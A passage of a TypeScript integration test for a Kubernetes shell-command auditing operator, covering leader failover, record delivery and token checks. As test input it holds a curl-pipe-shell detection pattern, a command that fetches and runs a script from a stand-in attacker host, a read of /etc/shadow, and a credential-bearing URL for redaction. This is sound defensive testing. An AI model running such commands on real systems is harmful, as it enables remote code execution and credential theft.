/**
 * The operator as users run it, against the real kube-apiserver: two replicas of the CLI
 * (`container-auditor operator`, HTTPS with a certificate made here by openssl, leader election on a Lease with
 * short timings) and, between them and the agent, a round-robin TCP proxy standing in for the Service (each new
 * connection goes to the next replica; a replica that does not lead answers 503 and the agent retries).
 *
 * The agent is the real agent/cluster code in this process (PlanClient, ClusterPlan, the record builder with
 * the policy's rules, the durable RecordQueue through queueSink, the Reporter), without bpftrace: a "typed"
 * line enters where bpftrace's output would. Its token is a real projected one (TokenRequest, audience
 * AGENT_TOKEN_AUDIENCE, bound to an agent Pod on the node), in a token file as the kubelet would write it.
 * There is no scheduler or kubelet: Pods stay Pending with spec.nodeName set here.
 *
 * Deadlines are generous; what is measured (how fast a plan follows a change) is only bounded loosely.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { rmSync, writeFileSync } from 'node:fs';
import { Agent } from 'node:https';
import { type Server, type Socket, connect, createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import {
  ApiException,
  CoordinationV1Api,
  CoreV1Api,
  CustomObjectsApi,
  NodeV1Api,
  type CoreV1Event,
  type V1Pod,
} from '@kubernetes/client-node';
import {
  PLAN_PATH,
  REPORTS_PATH,
  type NodePlan,
  type PlannedContainer,
  type Report,
} from '../../api/agentapi/v1.js';
import type { CommandRecord } from '../../api/records/v1.js';
import type { ContainerAuditPolicyStatus } from '../../api/v1alpha1/containerauditpolicy.js';
import { GROUP, POLICY_PLURAL, RECORD_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
import { silentLogger } from '../../common/logging.js';
import {
  createAuditPolicy,
  installCrds,
  kubectlOk,
  listAuditRecords,
  testKubeConfig,
  testKubeconfigPath,
} from '../support/cluster.js';
import { REPO_ROOT } from '../support/paths.js';
import type { CapturedLine } from '../../agent/capture/readline/parse.js';
import { ClusterPlan } from '../../agent/cluster/cluster-plan.js';
import { OperatorClient } from '../../agent/cluster/operator-client.js';
import { PlanClient } from '../../agent/cluster/plan-client.js';
import { RecordQueue, queueSink } from '../../agent/cluster/queue.js';
import { Reporter } from '../../agent/cluster/reporter.js';
import type { ContainerRecord } from '../../agent/containers/registry.js';
import { commandRecord } from '../../agent/records/build.js';
import type { StampingSink } from '../../agent/records/sink.js';
import { agentToken, scratchCert } from '../support/credentials.js';
import { type HttpsAnswer, httpsCall } from '../support/https-call.js';
import { agentJwt } from '../../operator/ingest/testdata/tokens.js';

const run = randomBytes(3).toString('hex');
const SYSTEM = `operator-${run}-system`;
const SHOP = `operator-${run}-shop`;
const N1 = `operator-${run}-n1`;
const N2 = `operator-${run}-n2`;
const POLICY = `operator-${run}-web`;
const RUN_LABEL = 'containeraudit.io/test-run';
const RUNTIME_CLASS = 'container-auditor';
const LEASE = 'container-auditor-operator';
const CLI = join(REPO_ROOT, 'cli', 'container-auditor.js');
const LEASE_TIMINGS = [
  '--lease-duration-ms',
  '4000',
  '--renew-deadline-ms',
  '3000',
  '--retry-period-ms',
  '500',
];
/** Agent-side retries: quick, so that a test does not wait out a long backoff. */
const AGENT_BACKOFF = { initialMs: 50, maxMs: 500 };

const kc = testKubeConfig();
const core = kc.makeApiClient(CoreV1Api);
const custom = kc.makeApiClient(CustomObjectsApi);
const coordination = kc.makeApiClient(CoordinationV1Api);
const nodeApi = kc.makeApiClient(NodeV1Api);

let scratch = '';
let certFile = '';
let keyFile = '';
let ca: Buffer;
let createdRuntimeClass = false;
const pods: Record<string, V1Pod> = {};
const tokens = { agentN1: '', agentN2: '', otherSa: '' };

// ---------------------------------------------------------------------------------------------------------
// Helpers.

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function until<T>(
  what: string,
  test: () => Promise<T | undefined> | T | undefined,
  timeoutMs = 30_000,
) {
  const deadline = Date.now() + timeoutMs;
  let lastError: unknown;
  for (;;) {
    try {
      const value = await test();
      if (value !== undefined && value !== false) return value;
    } catch (error) {
      lastError = error;
    }
    if (Date.now() > deadline)
      throw new Error(
        `timed out after ${timeoutMs} ms waiting for ${what}` +
          (lastError ? ` (last error: ${lastError instanceof Error ? lastError.message : 'unknown'})` : '') +
          `\n${replicas.map((r) => r?.tail()).join('\n')}`,
      );
    await sleep(100);
  }
}

async function createIfAbsent(create: () => Promise<unknown>): Promise<boolean> {
  try {
    await create();
    return true;
  } catch (error) {
    if (error instanceof ApiException && error.code === 409) return false;
    throw error;
  }
}

function makePod(
  namespace: string,
  name: string,
  options: {
    node: string;
    labels?: Record<string, string>;
    runtimeClass?: string;
    serviceAccount?: string;
    containers?: string[];
  },
): V1Pod {
  return {
    metadata: { name, namespace, labels: options.labels ?? {} },
    spec: {
      nodeName: options.node,
      ...(options.runtimeClass ? { runtimeClassName: options.runtimeClass } : {}),
      ...(options.serviceAccount ? { serviceAccountName: options.serviceAccount } : {}),
      containers: (options.containers ?? ['app']).map((c) => ({
        name: c,
        image: 'registry.example/shell:1',
      })),
    },
  };
}

async function createPod(pod: V1Pod): Promise<V1Pod> {
  const created = await core.createNamespacedPod({ namespace: pod.metadata!.namespace!, body: pod });
  pods[created.metadata!.name!] = created;
  return created;
}

interface Policy {
  metadata: { name: string; generation: number; resourceVersion: string };
  status?: ContainerAuditPolicyStatus;
}

async function getPolicy(): Promise<Policy> {
  return (await custom.getClusterCustomObject({
    group: GROUP,
    version: VERSION,
    plural: POLICY_PLURAL,
    name: POLICY,
  })) as Policy;
}

const condition = (status: ContainerAuditPolicyStatus | undefined, type: string) =>
  status?.conditions?.find((c) => c.type === type);

async function patchPolicy(spec: object): Promise<void> {
  await kubectlOk(['patch', POLICY_PLURAL, POLICY, '--type=merge', '-p', JSON.stringify({ spec })]);
}

async function auditRecords(): Promise<AuditRecord[]> {
  return listAuditRecords(custom, SHOP);
}

/** The commands of one shell session (all its parts, in part order) of this agent boot. */
async function sessionCommands(pid: number) {
  const parts = (await auditRecords())
    .filter((r) => r.spec.session.pid === pid && r.spec.session.bootId === agent.boot)
    .sort((a, b) => a.spec.session.part - b.spec.session.part);
  return parts.flatMap((r) => r.status?.commands ?? []);
}

async function podEvents(pod: string): Promise<CoreV1Event[]> {
  return (await core.listNamespacedEvent({ namespace: SHOP, fieldSelector: `involvedObject.name=${pod}` }))
    .items;
}

// ---------------------------------------------------------------------------------------------------------
// The operator replicas, through the CLI.

class OperatorProcess {
  private log = '';
  readonly exited: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  port = 0;
  probePort = 0;
  identity = '';

  private constructor(
    readonly name: string,
    private readonly child: ChildProcess,
  ) {
    child.stderr!.setEncoding('utf8').on('data', (data: string) => {
      this.log = (this.log + data).slice(-512 * 1024);
    });
    child.stdout!.resume();
    this.exited = new Promise((resolve) => child.on('exit', (code, signal) => resolve({ code, signal })));
  }

  static async start(name: string): Promise<OperatorProcess> {
    const args = [
      CLI,
      'operator',
      '--kubeconfig',
      testKubeconfigPath(),
      '--tls-cert',
      certFile,
      '--tls-key',
      keyFile,
      '--host',
      '127.0.0.1',
      '--port',
      '0',
      '--probe-port',
      '0',
      '--agent-service-account',
      `${SYSTEM}/agent`,
      '--lease-namespace',
      SYSTEM,
      ...LEASE_TIMINGS,
    ];
    const op = new OperatorProcess(
      name,
      spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] }),
    );
    const started = await until(`operator ${name} to start`, () => {
      if (op.gone) throw new Error(`operator ${name} exited:\n${op.tail()}`);
      return op.logLines().find((l) => l.message === 'Operator started');
    });
    const detail = started.detail as { port: number; probePort: number; identity: string };
    Object.assign(op, { port: detail.port, probePort: detail.probePort, identity: detail.identity });
    return op;
  }

  get pid(): number {
    return this.child.pid!;
  }

  get gone(): boolean {
    return this.child.exitCode !== null || this.child.signalCode !== null;
  }

  logLines(): { message?: string; detail?: unknown; level?: string }[] {
    return this.log.split('\n').flatMap((line) => {
      try {
        return [JSON.parse(line) as { message?: string; detail?: unknown }];
      } catch {
        return [];
      }
    });
  }

  tail(): string {
    return `---- operator ${this.name} (pid ${this.pid}${this.gone ? ', exited' : ''}) ----\n${this.log.slice(-6000)}`;
  }

  kill(signal: NodeJS.Signals): void {
    if (!this.gone) this.child.kill(signal);
  }

  /** SIGTERM, and SIGKILL if it does not stop within the grace. */
  async stop(graceMs = 15_000): Promise<{ code: number | null; signal: NodeJS.Signals | null }> {
    this.kill('SIGTERM');
    const timer = setTimeout(() => this.kill('SIGKILL'), graceMs);
    try {
      return await this.exited;
    } finally {
      clearTimeout(timer);
    }
  }
}

/** The two replicas (a slot is empty while its replica is down). */
const replicas: (OperatorProcess | undefined)[] = [undefined, undefined];

/** The replica holding the Lease, once one of the running replicas does. */
async function leader(): Promise<OperatorProcess> {
  return until('a running replica to lead', async () => {
    const lease = await coordination.readNamespacedLease({ namespace: SYSTEM, name: LEASE });
    return replicas.find((r) => r && !r.gone && r.identity === lease.spec?.holderIdentity);
  });
}

// ---------------------------------------------------------------------------------------------------------
// The Service: a TCP proxy, round robin per connection over the replica slots.

class RoundRobinProxy {
  readonly connections = new Map<Socket, number>();
  /** Connections handed to each slot. */
  readonly handed = [0, 0];
  /** Answers of this slot's replica are held back (a network that stalls), and how many bytes were. */
  holding: number | undefined;
  heldBytes = 0;
  private next = 0;
  private readonly server: Server;
  private readonly sockets = new Set<Socket>();

  constructor() {
    this.server = createServer((client) => this.forward(client));
  }

  async listen(): Promise<number> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return (this.server.address() as AddressInfo).port;
  }

  private forward(client: Socket): void {
    const slot = this.next;
    this.next = (this.next + 1) % replicas.length;
    this.handed[slot]!++;
    this.sockets.add(client);
    client.on('close', () => this.sockets.delete(client));
    const replica = replicas[slot];
    // A replica that is down: the connection fails, as it would to an endpoint that is gone.
    if (!replica || replica.gone) {
      client.destroy();
      return;
    }
    const upstream = connect(replica.port, '127.0.0.1');
    this.sockets.add(upstream);
    upstream.on('close', () => this.sockets.delete(upstream));
    const cut = () => {
      client.destroy();
      upstream.destroy();
    };
    client.on('error', cut).on('close', cut);
    upstream.on('error', cut).on('close', cut);
    client.pipe(upstream);
    const held: Buffer[] = [];
    upstream.on('data', (chunk: Buffer) => {
      if (this.holding === slot) {
        held.push(chunk);
        this.heldBytes += chunk.length;
        return;
      }
      for (const h of held.splice(0)) client.write(h);
      client.write(chunk);
    });
  }

  async close(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

// ---------------------------------------------------------------------------------------------------------
// The agent of node N1: the real agent/cluster parts, bpftrace replaced by calls to `type`.

interface Typed {
  seq: number;
  command: string;
  at: number;
}

class TestAgent {
  readonly plan = new ClusterPlan();
  /** Plans as they arrived, with when. */
  readonly plans: { plan: NodePlan; at: number }[] = [];
  readonly typed = new Map<number, Typed>();
  private readonly containers = new Map<string, ContainerRecord>();

  private constructor(
    readonly client: OperatorClient,
    readonly planClient: PlanClient,
    readonly queue: RecordQueue,
    readonly sink: StampingSink,
    readonly reporter: Reporter,
  ) {
    planClient.on('plan', (plan) => {
      this.plan.update(plan);
      this.plans.push({ plan, at: Date.now() });
      reporter.nudge();
    });
  }

  static async start(url: string, dir: string, tokenFile: string): Promise<TestAgent> {
    const logger = silentLogger();
    const client = new OperatorClient({ url, tokenFile, ca });
    const planClient = new PlanClient({
      client,
      node: N1,
      stateDir: join(dir, 'state'),
      logger,
      backoff: AGENT_BACKOFF,
    });
    const queue = await RecordQueue.open({ dir: join(dir, 'queue'), logger });
    const sink = queueSink(N1, queue);
    const self: { agent?: TestAgent } = {};
    const reporter = new Reporter({
      queue,
      client,
      node: N1,
      boot: sink.boot,
      state: () => ({
        ...(self.agent?.plan.version !== undefined ? { planVersion: self.agent.plan.version } : {}),
        auditedContainers: self.agent?.plan.listed ?? 0,
        probesAttached: 1,
        errors: [],
        queueDropped: queue.stats.dropped,
      }),
      logger,
      stateIntervalMs: 5_000,
      backoff: AGENT_BACKOFF,
    });
    const agent = (self.agent = new TestAgent(client, planClient, queue, sink, reporter));
    planClient.start();
    reporter.start();
    return agent;
  }

  get boot(): string {
    return this.sink.boot;
  }

  get boot8(): string {
    return this.boot.slice(0, 8);
  }

  /** The container of a pod as the node knows it (CRI annotations), with a stable container id. */
  container(podName: string, name: string): ContainerRecord {
    const key = `${podName}/${name}`;
    let c = this.containers.get(key);
    if (!c) {
      const pod = pods[podName]!;
      c = {
        id: randomBytes(32).toString('hex'),
        bundle: '/nonexistent',
        rootfs: '/nonexistent',
        identity: {
          kind: 'container',
          podNamespace: pod.metadata!.namespace!,
          podName,
          podUid: pod.metadata!.uid!,
          containerName: name,
          image: 'registry.example/shell:1',
        },
        initPid: 1,
        mntns: 4026530000 + this.containers.size,
        pidns: 4026540000 + this.containers.size,
        createdAt: new Date(),
        bashCandidates: ['/bin/bash'],
        execs: [],
      };
      this.containers.set(key, c);
    }
    return c;
  }

  /**
   * A line returned by readline in a shell of the container: through the plan and the policy's rules into
   * the queue, as the agent does with bpftrace's output. Undefined when the plan does not audit it.
   */
  type(podName: string, containerName: string, pid: number, line: string): CommandRecord | undefined {
    const container = this.container(podName, containerName);
    const audit = this.plan.auditOf(container);
    if (!audit.audited) return undefined;
    const captured: CapturedLine = {
      pid,
      tid: pid,
      ns: 0n,
      uid: 1000,
      cgroup: 1n,
      mntns: container.mntns,
      bytes: Buffer.from(line),
      truncated: false,
    };
    const record = this.sink.write(commandRecord(captured, container, audit.audit, new Date(), 7));
    if (record.kind !== 'command') throw new Error('not a command record');
    this.typed.set(record.seq, { seq: record.seq, command: record.command, at: Date.now() });
    return record;
  }

  /** Whether every record appended so far was acknowledged by the operator. */
  get drained(): boolean {
    return !this.queue.hasRecords && this.queue.pendingBytes === 0;
  }

  async stop(): Promise<void> {
    await this.planClient.stop();
    await this.reporter.stop(0);
    await this.queue.close();
    this.client.close();
  }
}

let proxy: RoundRobinProxy;
let agent: TestAgent;

/** A request straight to one replica's agent endpoint (not through the proxy). */
function call(
  port: number,
  options: { token: string; path?: string; body?: string; agent?: Agent },
): Promise<HttpsAnswer> {
  return httpsCall({
    port,
    ca,
    method: options.body === undefined ? 'GET' : 'POST',
    path: options.path ?? REPORTS_PATH,
    token: options.token,
    ...(options.body !== undefined ? { body: options.body } : {}),
    ...(options.agent ? { agent: options.agent } : {}),
  });
}

// ---------------------------------------------------------------------------------------------------------

beforeAll(async () => {
  await installCrds();
  // The operator is cluster-wide, and the oldest policy selecting a container audits it. The examples (which
  // api/crd's test installs and leaves) select every pod and are older than ours: they would take our pods.
  await kubectlOk(['delete', '--ignore-not-found', '-f', join(REPO_ROOT, 'examples')]);
  createdRuntimeClass = await createIfAbsent(() =>
    nodeApi.createRuntimeClass({ body: { metadata: { name: RUNTIME_CLASS }, handler: RUNTIME_CLASS } }),
  );
  for (const name of [N1, N2]) await core.createNode({ body: { metadata: { name } } });
  await core.createNamespace({ body: { metadata: { name: SYSTEM } } });
  await core.createNamespace({ body: { metadata: { name: SHOP, labels: { [RUN_LABEL]: run } } } });
  for (const name of ['agent', 'other'])
    await core.createNamespacedServiceAccount({ namespace: SYSTEM, body: { metadata: { name } } });
  const agentN1 = await createPod(makePod(SYSTEM, 'agent-n1', { node: N1, serviceAccount: 'agent' }));
  const agentN2 = await createPod(makePod(SYSTEM, 'agent-n2', { node: N2, serviceAccount: 'agent' }));
  const intruder = await createPod(makePod(SYSTEM, 'intruder', { node: N1, serviceAccount: 'other' }));
  // Selected and auditable (its sidecar is not selected); selected but not auditable; not selected.
  await createPod(
    makePod(SHOP, 'web', {
      node: N1,
      labels: { app: 'web' },
      runtimeClass: RUNTIME_CLASS,
      containers: ['app', 'sidecar'],
    }),
  );
  await createPod(makePod(SHOP, 'web-plain', { node: N1, labels: { app: 'web' } }));
  await createPod(makePod(SHOP, 'db', { node: N1, labels: { app: 'db' }, runtimeClass: RUNTIME_CLASS }));
  tokens.agentN1 = await agentToken(core, agentN1);
  tokens.agentN2 = await agentToken(core, agentN2);
  tokens.otherSa = await agentToken(core, intruder);

  ({ dir: scratch, certFile, keyFile, ca } = scratchCert('operator-test-'));
  const tokenFile = join(scratch, 'token');
  writeFileSync(tokenFile, `${tokens.agentN1}\n`, { mode: 0o600 });

  [replicas[0], replicas[1]] = await Promise.all([OperatorProcess.start('a'), OperatorProcess.start('b')]);
  proxy = new RoundRobinProxy();
  const port = await proxy.listen();
  agent = await TestAgent.start(`https://127.0.0.1:${port}`, join(scratch, 'agent'), tokenFile);
}, 120_000);

afterAll(async () => {
  await agent?.stop().catch(() => undefined);
  await Promise.all(replicas.flatMap((r) => (r ? [r.stop()] : [])));
  await proxy?.close();
  if (scratch) rmSync(scratch, { recursive: true, force: true });
  // No controller-manager: nothing garbage-collects and namespaces are not emptied; remove what we made.
  await custom
    .deleteClusterCustomObject({ group: GROUP, version: VERSION, plural: POLICY_PLURAL, name: POLICY })
    .catch(() => undefined);
  for (const pod of Object.values(pods))
    await core
      .deleteNamespacedPod({
        namespace: pod.metadata!.namespace!,
        name: pod.metadata!.name!,
        gracePeriodSeconds: 0,
      })
      .catch(() => undefined);
  await custom
    .deleteCollectionNamespacedCustomObject({
      group: GROUP,
      version: VERSION,
      plural: RECORD_PLURAL,
      namespace: SHOP,
    })
    .catch(() => undefined);
  for (const namespace of [SHOP, SYSTEM]) {
    await core.deleteCollectionNamespacedEvent({ namespace }).catch(() => undefined);
    await core.deleteCollectionNamespacedServiceAccount({ namespace }).catch(() => undefined);
  }
  await coordination.deleteNamespacedLease({ namespace: SYSTEM, name: LEASE }).catch(() => undefined);
  for (const name of [N1, N2]) await core.deleteNode({ name }).catch(() => undefined);
  for (const name of [SYSTEM, SHOP]) await core.deleteNamespace({ name }).catch(() => undefined);
  if (createdRuntimeClass) await nodeApi.deleteRuntimeClass({ name: RUNTIME_CLASS }).catch(() => undefined);
}, 120_000);

const planned = (podName: string): PlannedContainer => ({
  podNamespace: SHOP,
  podName,
  podUid: pods[podName]!.metadata!.uid!,
  containerName: 'app',
  policy: POLICY,
});

/** Waits for the agent's plan to satisfy `test`; the time from `since` to its arrival. */
async function planArrives(what: string, since: number, test: (plan: NodePlan) => boolean) {
  const arrival = await until(what, () => agent.plans.find((p) => p.at >= since && test(p.plan)), 20_000);
  return arrival.at - since;
}

describe('the operator, two replicas behind a Service', () => {
  it('applies a policy: status for kubectl describe, and a plan naming exactly the audited container', async () => {
    await createAuditPolicy(
      custom,
      POLICY,
      {
        selector: {
          namespaceSelector: { matchLabels: { [RUN_LABEL]: run } },
          podSelector: { matchLabels: { app: 'web' } },
          containers: ['app'],
        },
        alerts: [{ name: 'curl-pipe-shell', pattern: 'curl .*\\|\\s*(ba)?sh', severity: 'high' }],
      },
      { [RUN_LABEL]: run },
    );
    const policy = await until('the policy status', async () => {
      const p = await getPolicy();
      return p.status?.observedGeneration === p.metadata.generation &&
        condition(p.status, 'Ready')?.status === 'True'
        ? p
        : undefined;
    });
    expect(policy.status).toMatchObject({
      observedGeneration: 1,
      matchedPods: 2,
      auditedContainers: 1,
      unauditablePods: 1,
    });
    expect(condition(policy.status, 'Ready')).toMatchObject({ reason: 'Audited' });
    expect(condition(policy.status, 'Invalid')).toMatchObject({ status: 'False' });
    expect(condition(policy.status, 'Degraded')).toMatchObject({
      status: 'True',
      reason: 'UnauditablePods',
      message: expect.stringContaining(`${SHOP}/web-plain`) as string,
    });

    const described = await kubectlOk(['describe', 'auditpolicy', POLICY]);
    expect(described).toMatch(/Observed Generation:\s+1/);
    expect(described).toMatch(/Matched Pods:\s+2/);
    expect(described).toMatch(/Audited Containers:\s+1/);
    expect(described).toMatch(/Unauditable Pods:\s+1/);
    expect(described).toMatch(/Reason:\s+UnauditablePods/);
    expect(described).toContain(`${SHOP}/web-plain`);

    await planArrives('the plan naming web/app', 0, (p) => p.containers.length > 0);
    const plan = agent.planClient.current!;
    expect(plan.node).toBe(N1);
    expect(plan.containers).toEqual([planned('web')]);
    expect(Object.keys(plan.policies)).toEqual([POLICY]);
    expect(plan.policies[POLICY]!.alerts.map((a) => a.name)).toEqual(['curl-pipe-shell']);
  });

  it('changes the plan within moments when the pods or the policy change', async () => {
    const took: Record<string, number> = {};
    let since = Date.now();
    await createPod(
      makePod(SHOP, 'web-2', { node: N1, labels: { app: 'web' }, runtimeClass: RUNTIME_CLASS }),
    );
    took['pod added'] = await planArrives('web-2 in the plan', since, (p) => p.containers.length === 2);
    expect(agent.planClient.current!.containers).toEqual([planned('web'), planned('web-2')]);

    since = Date.now();
    await patchPolicy({ suspend: true });
    took.suspended = await planArrives('the emptied plan', since, (p) => p.containers.length === 0);
    expect(agent.planClient.current!).toMatchObject({ containers: [], policies: {} });
    const suspended = await until('the Suspended condition', async () => {
      const p = await getPolicy();
      return p.status?.observedGeneration === p.metadata.generation ? p : undefined;
    });
    expect(condition(suspended.status, 'Ready')).toMatchObject({ status: 'False', reason: 'Suspended' });

    since = Date.now();
    await patchPolicy({ suspend: false });
    took.resumed = await planArrives('the plan back', since, (p) => p.containers.length === 2);

    since = Date.now();
    await core.deleteNamespacedPod({ namespace: SHOP, name: 'web-2', gracePeriodSeconds: 0 });
    delete pods['web-2'];
    took['pod deleted'] = await planArrives('web-2 gone', since, (p) => p.containers.length === 1);
    expect(agent.planClient.current!.containers).toEqual([planned('web')]);

    // Measured, not timed: the target is about a second; the bound only catches a plan that never comes.
    process.stderr.write(`plan change → agent (ms): ${JSON.stringify(took)}\n`);
    for (const ms of Object.values(took)) expect(ms).toBeLessThan(10_000);
  });

  it('turns reports into AuditRecords and Events, and counts them in the policy status', async () => {
    const before = (await getPolicy()).status?.commandsRecorded ?? 0;
    const pid = 4242;
    const lines = [
      'ls -la /',
      "psql 'postgres://app:s3cr3t-pw@db/shop' -c 'select 1'",
      'curl http://evil.example/x.sh | sh',
    ];
    const sent = lines.map((line) => agent.type('web', 'app', pid, line)!);
    // Not planned: the agent drops it, nothing reaches the operator.
    expect(agent.type('web', 'sidecar', 99, 'cat /etc/shadow')).toBeUndefined();
    expect(sent[1]!.redacted).toBe(true);
    expect(sent[1]!.command).not.toContain('s3cr3t-pw');
    expect(sent[2]!.alerts).toEqual([{ name: 'curl-pipe-shell', severity: 'high' }]);

    const name = `web-app-${pid}-${agent.boot8}-1`;
    const record = await until('the AuditRecord', async () => {
      const r = (await auditRecords()).find((x) => x.metadata.name === name);
      return r?.status?.commands?.length === 3 ? r : undefined;
    });
    const app = agent.container('web', 'app');
    expect(record.spec).toMatchObject({
      pod: { name: 'web', uid: pods.web!.metadata!.uid },
      container: { name: 'app', id: app.id },
      node: N1,
      policy: POLICY,
      session: { kind: 'shell', pid, part: 1, bootId: agent.boot },
    });
    expect(record.metadata.namespace).toBe(SHOP);
    expect(record.status!.commands!.map((c) => [c.seq, c.command, c.redacted, c.alert ?? null])).toEqual(
      sent.map((r) => [r.seq, r.command, r.redacted, r.alerts[0] ?? null]),
    );
    expect(record.status).toMatchObject({ phase: 'Active', counts: { commands: 3, alerts: 1, redacted: 1 } });

    const events = await until('the Events', async () => {
      const evs = await podEvents('web');
      return evs.length >= 3 ? evs : undefined;
    });
    const byName = new Map(events.map((e) => [e.metadata.name, e]));
    expect(byName.get(`web.${agent.boot8}.${sent[0]!.seq}`)).toMatchObject({
      type: 'Normal',
      reason: 'ShellCommand',
      message: `app (uid 1000, pid ${pid}): ls -la /`,
      involvedObject: { kind: 'Pod', name: 'web', namespace: SHOP, uid: pods.web!.metadata!.uid },
    });
    expect(byName.get(`web.${agent.boot8}.${sent[2]!.seq}`)).toMatchObject({
      type: 'Warning',
      reason: 'AuditAlert',
      message: `curl-pipe-shell (high) in app (uid 1000, pid ${pid}): curl http://evil.example/x.sh | sh`,
    });
    const describe = await kubectlOk(['describe', 'pod', 'web', '-n', SHOP]);
    expect(describe).toMatch(/Normal\s+ShellCommand\s+.*app \(uid 1000, pid 4242\): ls -la \//);
    expect(describe).toMatch(/Warning\s+AuditAlert\s+.*curl-pipe-shell \(high\)/);
    expect(await podEvents('web-plain')).toEqual([]);
    expect(await podEvents('db')).toEqual([]);

    const status = await until('commandsRecorded to grow', async () => {
      const s = (await getPolicy()).status;
      return (s?.commandsRecorded ?? 0) >= before + 3 ? s : undefined;
    });
    expect(status.lastCommandTime).toBeDefined();
    expect(status.nodes).toEqual([
      expect.objectContaining({ name: N1, planVersion: agent.plan.version, auditedContainers: 1 }),
    ]);
    const table = await kubectlOk(['get', 'auditrecords', '-n', SHOP]);
    expect(
      table
        .split('\n')
        .find((l) => l.startsWith(name))
        ?.split(/\s{2,}/),
    ).toEqual([name, 'web', 'app', N1, '3', '1', expect.any(String), 'Active', expect.any(String)]);
  });

  it('loses nothing and duplicates nothing when the leader is killed mid-stream', async () => {
    const pid = 5151;
    const first = await leader();
    const other = replicas.find((r) => r && r !== first)!;
    const seqs: number[] = [];
    let typing = true;
    const typist = (async () => {
      for (let i = 0; typing; i++) {
        seqs.push(agent.type('web', 'app', pid, `echo failover ${i}`)!.seq);
        await sleep(10);
      }
    })();
    // Mid-stream: the leader has taken some of them.
    const accepted = agent.reporter.stats.recordsAccepted;
    await until(
      'reports accepted by the first leader',
      () => agent.reporter.stats.recordsAccepted > accepted + 50,
    );
    // The worst moment to die: a report written, its answer still on the way (held back by the network).
    const duplicatesBefore = agent.reporter.stats.duplicates;
    proxy.holding = replicas.indexOf(first);
    await until('an answer of the leader held back', () => proxy.heldBytes > 0);
    first.kill('SIGKILL');
    proxy.holding = undefined;
    const killedAt = Date.now();
    expect(await first.exited).toMatchObject({ signal: 'SIGKILL' });
    const takenOver = await leader();
    const takeOverMs = Date.now() - killedAt;
    expect(takenOver).toBe(other);
    const afterTakeOver = agent.reporter.stats.recordsAccepted;
    await until(
      'reports accepted by the new leader',
      () => agent.reporter.stats.recordsAccepted > afterTakeOver + 50,
    );
    typing = false;
    await typist;
    expect(seqs.length).toBeGreaterThan(200);

    await until('the queue to drain', () => agent.drained, 60_000);
    const commands = await until(
      'every command in the AuditRecords',
      async () => {
        const c = await sessionCommands(pid);
        return c.length >= seqs.length ? c : undefined;
      },
      30_000,
    );
    // Exactly once: the same seqs, none twice, each with its own text.
    expect(commands.map((c) => c.seq)).toEqual(seqs);
    expect(commands.map((c) => c.command)).toEqual(seqs.map((s) => agent.typed.get(s)!.command));
    const { recordsAccepted, duplicates, failures } = agent.reporter.stats;
    // The report whose answer was lost was sent again: the new leader found its records already written.
    expect(duplicates).toBeGreaterThan(duplicatesBefore);
    process.stderr.write(
      `failover: ${seqs.length} records, new leader after ${takeOverMs} ms; agent totals: ` +
        `${recordsAccepted} accepted, ${duplicates} duplicates (re-sent, already written), ${failures} failed attempts\n`,
    );
    const slot = replicas.indexOf(first);
    replicas[slot] = await OperatorProcess.start(`${first.name} (restarted)`);
  });

  it('keeps what the agent records while no operator runs, and delivers all of it once one is back', async () => {
    const pid = 6161;
    // A long poll waiting at the leader when it stops is answered, and its connection closed: a keep-alive
    // connection left open would hold the stop (and the lease) for the server's whole close grace.
    const { port } = await leader();
    const keepAlive = new Agent({ keepAlive: true });
    const poll = call(port, {
      agent: keepAlive,
      token: tokens.agentN1,
      path: `${PLAN_PATH}?node=${N1}&version=${agent.plan.version}`,
    });
    await sleep(500);
    const stopped = await Promise.all(replicas.map((r) => r!.stop()));
    expect(await poll).toMatchObject({
      status: 200,
      body: { version: agent.plan.version },
      connection: 'close',
    });
    keepAlive.destroy();
    // Graceful: a stop releases the lease and exits 0.
    expect(stopped).toEqual([
      { code: 0, signal: null },
      { code: 0, signal: null },
    ]);
    const [a, b] = replicas.map((r) => r!.name);
    replicas[0] = undefined;
    replicas[1] = undefined;
    const failures = agent.reporter.stats.failures;
    const seqs: number[] = [];
    for (let i = 0; i < 50; i++) {
      seqs.push(agent.type('web', 'app', pid, `echo while-down ${i}`)!.seq);
      await sleep(40);
    }
    await until('the reporter to try and fail', () => agent.reporter.stats.failures > failures);
    expect(agent.queue.hasRecords).toBe(true);
    expect(await sessionCommands(pid)).toEqual([]);

    replicas[0] = await OperatorProcess.start(`${a} (back)`);
    const commands = await until('the records typed while down', async () => {
      const c = await sessionCommands(pid);
      return c.length >= seqs.length ? c : undefined;
    });
    expect(commands.map((c) => [c.seq, c.command])).toEqual(
      seqs.map((s) => [s, agent.typed.get(s)!.command]),
    );
    await until('the queue to drain', () => agent.drained);
    replicas[1] = await OperatorProcess.start(`${b} (back)`);
  });

  it('refuses a forged token, another ServiceAccount’s, another node’s and a malformed body, writing nothing', async () => {
    const { port } = await leader();
    const boot = randomUUID();
    const app = agent.container('web', 'app');
    const body = (seq: number): string => {
      const record: CommandRecord = {
        kind: 'command',
        seq,
        boot,
        node: N1,
        time: new Date().toISOString(),
        containerId: app.id,
        pod: { namespace: SHOP, name: 'web', uid: pods.web!.metadata!.uid! },
        container: 'app',
        policy: POLICY,
        pid: 7171,
        uid: 0,
        command: `refused ${seq}`,
        truncated: false,
        redacted: false,
        alerts: [],
      };
      return JSON.stringify({ node: N1, boot, records: [record] } satisfies Report);
    };
    const cases = [
      // Not even a JWT: refused before any TokenReview.
      ['a token that is not a JWT', randomBytes(32).toString('base64url'), body(1), 401, 'malformed-token'],
      // Shaped like the agent's token, with our audience: only the TokenReview can refuse it.
      ['a forged token', agentJwt(), body(1), 401, 'unauthenticated'],
      ['another ServiceAccount’s token', tokens.otherSa, body(2), 403, 'service-account'],
      ['a token bound to a pod on another node', tokens.agentN2, body(3), 403, 'node'],
      ['a malformed body', tokens.agentN1, '{"node": "', 400, 'invalid-report'],
      ['a report that fails the schema', tokens.agentN1, body(0), 400, 'invalid-report'],
    ] as const;
    for (const [what, tok, text, status, error] of cases) {
